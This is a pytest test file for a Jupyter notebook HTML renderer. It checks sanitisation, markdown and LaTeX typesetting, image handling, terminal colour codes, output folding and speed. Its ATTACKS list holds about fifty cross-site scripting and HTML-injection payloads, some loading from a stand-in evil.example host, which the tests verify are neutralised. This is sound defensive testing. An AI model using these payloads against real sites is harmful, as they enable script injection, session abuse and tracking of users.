import base64
import re
import time

import pytest

from notebooks import mathml
from notebooks.budget import MOST_CHARACTERS
from notebooks.markup import markdown
from notebooks.rendering import outline, render
from tests.notebooks import picturing
from tests.notebooks.building import code, notebook, words
from tests.notebooks.dom import parsed

PNG = base64.b64encode(picturing.saved("PNG")).decode()
SAFE_TAGS = {
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
    "var",
}
SAFE_TAGS |= mathml.TAGS
SAFE_ATTRIBUTES = {
    "href",
    "rel",
    "title",
    "src",
    "alt",
    "loading",
    "width",
    "height",
    "colspan",
    "rowspan",
    "scope",
    "start",
    "id",
    "class",
}.union(*mathml.ATTRIBUTES.values())
REL = "noopener noreferrer nofollow ugc"
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "<img src='https://evil.example/track.png'>",
    "<img srcset='https://evil.example/a 2x' src=//evil.example/b>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<form action='https://evil.example'><input name=q><button>Go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='/admin/logout'>x</a>",
    "<a href='//evil.example' target=_blank>x</a>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
    "<div hx-get='/approve' hx-trigger='load' data-hx-post='/x'>x</div>",
    "<h1 id='csrf-form' class='notice'>x</h1>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=//evil.example></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "</code></pre></td><script>alert(1)</script>",
    "<img alt='a><script>alert(1)</script>' src=x>",
    "<img title='\"><script>alert(1)</script>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/a.png)",
    '![x" onerror="alert(1)](a.png)',
    "<javascript:alert(1)>",
    "$</code><script>alert(1)</script>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "\\begin{align}<script>alert(1)</script>\\end{align}",
    "```html\n<script>alert(1)</script>\n```",
    '```" onload=alert(1)\nx\n```',
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
]


def everything(rendered):
    """All markup of a notebook, put into a page the way a template does."""
    for cell in rendered:
        yield from cell.lines
        yield cell.html
        for output in cell.outputs:
            yield from (output.html, output.hidden, output.tail)
            if output.src:
                yield f'<img src="{output.src}">'


def assert_inert(dom):
    assert set(dom.tags) <= SAFE_TAGS
    for tag, attributes in dom.elements:
        assert set(attributes) <= SAFE_ATTRIBUTES, (tag, attributes)
        if "href" in attributes:
            assert re.match("https?://|mailto:|#", attributes["href"])
            assert attributes["rel"] == REL
        if tag == "img" and "src" in attributes:
            assert re.match("data:image/(png|jpeg|gif|webp);base64,", attributes["src"])
        if "id" in attributes:
            assert re.fullmatch(r"cell-\d+-heading-\d+", attributes["id"])
        if "class" in attributes:
            assert re.fullmatch("[a-z0-9 -]*", attributes["class"])
            assert "notice" not in attributes["class"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_loads_or_restyles_is_left(attack):
    rendered = render(
        notebook(
            words(attack),
            code(
                attack,
                {"output_type": "stream", "name": "stdout", "text": attack},
                {"output_type": "display_data", "data": {"text/html": attack}},
                {"output_type": "display_data", "data": {"text/markdown": attack}},
                {"output_type": "display_data", "data": {"text/latex": attack}},
                {"output_type": "display_data", "data": {"text/plain": attack}},
                {"output_type": "display_data", "data": {"image/svg+xml": attack}},
                {"output_type": "display_data", "data": {"image/png": attack}},
                {
                    "output_type": "error",
                    "ename": attack,
                    "evalue": attack,
                    "traceback": [attack],
                },
            ),
            {"cell_type": "raw", "source": attack, "metadata": {}},
        )
    )
    named = {o.unshown.mime for o in rendered[1].outputs if o.unshown}
    assert {"image/svg+xml", "image/png"} <= named  # neither is a picture
    assert_inert(parsed(*everything(rendered)))


def test_the_corpus_would_be_noticed_if_it_passed_through():
    caught = 0
    for attack in ATTACKS:
        try:
            assert_inert(parsed(attack))
        except (AssertionError, KeyError):
            caught += 1
    assert caught > 30


def test_code_is_one_whole_piece_of_html_per_line():
    source = "def f(x):\n\n    '''<b>\n    doc'''\n    return x < 1 & 2  # 日本\n"
    (cell,) = render(notebook(code(source)))
    assert [parsed(line).text for line in cell.lines] == source.split("\n")
    assert parsed(cell.lines[0]).all("span")[0] == {"class": "k"}
    for line in cell.lines:
        assert line.count("<span") == line.count("</span>")
    assert (cell.anchor, cell.index, cell.execution_count) == ("cell-1", 1, 1)


@pytest.mark.parametrize("source", ["", "\n\nx", "x\n\n", "\r\n%magic\r!ls", "'''"])
def test_no_line_of_code_is_lost_or_added(source):
    (cell,) = render(notebook(code(source)))
    plain = source.replace("\r\n", "\n").replace("\r", "\n")
    assert [parsed(line).text for line in cell.lines] == plain.split("\n")


def test_markdown_keeps_its_structure_and_formulas_are_typeset():
    text = (
        "# Title\n\n* one\n* [two](https://example.org)\n\n|a|b|\n|-|-|\n|1|2|\n\n"
        "Let $w_i * x_i * y_i$ and\n\n$$\\frac{a}{b} < c$$\n"
    )
    (cell,) = render(notebook(words(text)))
    dom = parsed(cell.html)
    assert {"h3", "ul", "li", "table", "a", "math", "mfrac"} <= set(dom.tags)
    assert dom.all("h3") == [{"id": "cell-1-heading-1"}]
    assert dom.all("a") == [{"href": "https://example.org", "rel": REL}]
    assert dom.all("math") == [{"display": "inline"}, {"display": "block"}]
    assert "wi*xi*yi" in dom.text
    assert "$" not in dom.text


def test_a_formula_that_cannot_be_typeset_stays_as_its_source():
    (cell,) = render(notebook(words("Let $\\nosuch{w}$ and\n\n$$\\frac{a$$\n")))
    dom = parsed(cell.html)
    assert dom.all("code") == [{"class": "math"}] * 2
    assert "$\\nosuch{w}$" in dom.text
    assert "$$\\frac{a$$" in dom.text


@pytest.mark.parametrize(
    "latex",
    ["$\\displaystyle x^2$", "$$x^2$$", r"\[x^2\]", r"\begin{align}x^2\end{align}"],
)
def test_an_output_of_one_formula_is_typeset(latex):
    output = {"output_type": "display_data", "data": {"text/latex": latex}}
    (shown,) = render(notebook(code("x", output)))[0].outputs
    assert shown.kind == "html"
    assert {"math", "msup"} <= set(parsed(shown.html).tags)


@pytest.mark.parametrize("latex", ["text and $x$ and $y$", "$\\nosuch$", "$x" * 999])
def test_an_output_of_other_latex_stays_as_its_source(latex):
    output = {"output_type": "display_data", "data": {"text/latex": latex}}
    (shown,) = render(notebook(code("x", output)))[0].outputs
    assert (shown.kind, parsed(shown.html).text) == ("math", latex)


def test_forty_words_after_a_formula_keep_a_cell_from_no_markup():
    (cell,) = render(notebook(words("$x$ " + "`a` " * 60)))
    assert len(parsed(cell.html).all("code")) == 60


def test_the_outline_points_at_the_headings_that_are_rendered():
    book = notebook(
        words("# One `x`\ntext\n\n## Two\n"), code("# no heading"), words("### Three")
    )
    found = outline(render(book))
    assert [(heading.level, heading.text) for heading in found] == [
        (1, "One x"),
        (2, "Two"),
        (3, "Three"),
    ]
    dom = parsed(*everything(render(book)))
    shown = [attributes["id"] for _, attributes in dom.elements if "id" in attributes]
    assert shown == [heading.anchor for heading in found]


def test_pasted_pictures_are_shown_and_distant_ones_only_described():
    cell = words(
        "![mine](attachment:a.png) ![far <b>](https://evil.example/x.png) ![no](attachment:b)",
        attachments={"a.png": {"image/png": PNG}},
    )
    (rendered,) = render(notebook(cell))
    dom = parsed(rendered.html)
    mine, far, no = dom.all("img")
    assert mine["src"] == f"data:image/png;base64,{PNG}"
    assert "src" not in far | no
    assert (far["alt"], no["alt"]) == ("far <b>", "no")


def outputs(*given):
    (cell,) = render(notebook(code("x", *given)))
    return cell.outputs


def displayed(**data):
    bundle = {kind.replace("_", "/"): value for kind, value in data.items()}
    return {"output_type": "display_data", "data": bundle}


def printed(text, name="stdout"):
    return {"output_type": "stream", "name": name, "text": text}


def test_a_picture_comes_before_its_words():
    (shown,) = outputs(
        displayed(text_plain="Two rides", image_png=PNG[:8] + "\n" + PNG[8:])
    )
    assert shown.kind == "image"
    assert shown.src == f"data:image/png;base64,{PNG}"
    assert shown.alt == "Two rides"


@pytest.mark.parametrize(
    "said",
    [
        "<Figure size 800x480 with 1 Axes>",
        "<matplotlib.figure.Figure at 0x7f12>",
        "<PIL.Image.Image image mode=RGB size=64x64>",
    ],
)
def test_what_a_library_prints_of_a_picture_does_not_describe_it(said):
    (shown,) = outputs(displayed(text_plain=said, image_png=PNG))
    assert shown.alt == ""


@pytest.mark.parametrize(
    "encoded", ["not base64!", '"><script>', base64.b64encode(b"GIF89a").decode(), ""]
)
def test_a_picture_that_is_none_gives_way_to_its_words(encoded):
    (shown,) = outputs(displayed(text_plain="words", image_png=encoded))
    assert (shown.kind, shown.html) == ("text", "words")


def test_a_data_frame_stays_a_table():
    frame = (
        "<div><style scoped>.dataframe tbody{color:red}</style><table border='1'"
        " class='dataframe'><thead><tr style='text-align:right'><th>hr</th></tr></thead>"
        "<tbody><tr><td colspan='2'>7</td></tr></tbody></table></div>"
    )
    (shown,) = outputs(displayed(text_html=frame, text_plain="hr 7"))
    dom = parsed(shown.html)
    assert shown.kind == "html"
    assert dom.text == "hr7"
    assert dom.all("table") == [{}]
    assert dom.all("td") == [{"colspan": "2"}]


def test_colours_become_classes_and_other_terminal_codes_go():
    (shown,) = outputs(
        printed(
            "\x1b[1;31mred\nstill\x1b[0m plain\x1b[2K\x1b]0;title\x07\x07 \x1b[94mb"
        )
    )
    dom = parsed(shown.html)
    assert dom.text == "red\nstill plain b"
    assert [attributes["class"] for attributes in dom.all("span")] == [
        "ansi-bold ansi-red",
        "ansi-bold ansi-red",
        "ansi-blue",
    ]


def test_a_progress_bar_shows_its_last_state():
    (shown,) = outputs(printed("10%\r50%\r100%\r\ndone\r\n"))
    assert shown.html == "100%\ndone"


def test_pieces_of_one_stream_are_put_together():
    pieces = [printed("a"), printed("b\n"), printed("c", "stderr"), printed("d")]
    assert [(shown.stream, shown.html) for shown in outputs(*pieces)] == [
        ("stdout", "ab"),
        ("stderr", "c"),
        ("stdout", "d"),
    ]


def test_a_traceback_is_kept_with_a_summary():
    (shown,) = outputs(
        {
            "output_type": "error",
            "ename": "ValueError",
            "evalue": "<b>",
            "traceback": ["\x1b[0;31mValueError\x1b[0m", "line 2"],
        }
    )
    assert (shown.kind, shown.summary) == ("error", "ValueError: <b>")
    assert parsed(shown.html).text == "ValueError\nline 2"


def test_long_output_is_folded_and_nothing_is_lost():
    text = "".join(f"{n}\n" for n in range(500))
    (shown,) = outputs(printed(text))
    assert shown.hidden_lines == 460
    assert shown.dropped_lines == 0
    assert f"{shown.html}\n{shown.hidden}\n{shown.tail}" == text.rstrip("\n")


def test_endless_output_is_cut_and_says_so():
    (shown,) = outputs(printed("x" * 100_000 + "\n" + "y\n" * 100_000))
    assert shown.dropped_lines == 96_001
    assert shown.hidden_lines == 99_961
    assert len(shown.html) < 10_000
    assert len(shown.html + shown.hidden + shown.tail) < 50_000


def test_a_real_sized_notebook_is_rendered_in_no_time():
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(34_000)).decode()
    book = notebook(
        *(code("x = 1\n" * 20, displayed(image_png=picture)) for _ in range(90))
    )
    started = time.process_time()
    rendered = render(book)
    assert time.process_time() - started < 1
    assert sum(len(cell.outputs) for cell in rendered) == 90


def test_text_built_to_be_slow_is_shown_as_text():
    book = notebook(words("[" * 2_000_000), code("(" * 2_000_000))
    started = time.process_time()
    markdown_cell, code_cell = render(book)
    assert time.process_time() - started < 1
    assert parsed(markdown_cell.html).tags == ["pre"]
    assert code_cell.lines == ("(" * MOST_CHARACTERS,)
    assert code_cell.dropped_lines == 1


def test_deep_nesting_is_survived():
    deep = "<div>" * 10_000 + "x"
    (shown,) = outputs(displayed(text_html=deep))
    assert parsed(shown.html).text.strip() == "x"


def test_templates_may_show_the_html_as_it_is_and_nothing_else():
    (cell,) = render(notebook(code("x < 1", displayed(image_png=PNG, text_plain="<"))))
    assert cell.lines[0].__html__() == cell.lines[0]
    assert not hasattr(cell.outputs[0].alt, "__html__")
    assert not hasattr(cell.outputs[0].summary, "__html__")


def test_a_line_break_inside_japanese_is_no_space_and_inside_english_is_one():
    assert (
        "学びます。足りなければ" in markdown("学びます。\n足りなければ", "brief").html
    )
    assert "one\ntwo" in markdown("one\ntwo", "brief").html
    assert "NumPy\nだけ" in markdown("NumPy\nだけ", "brief").html
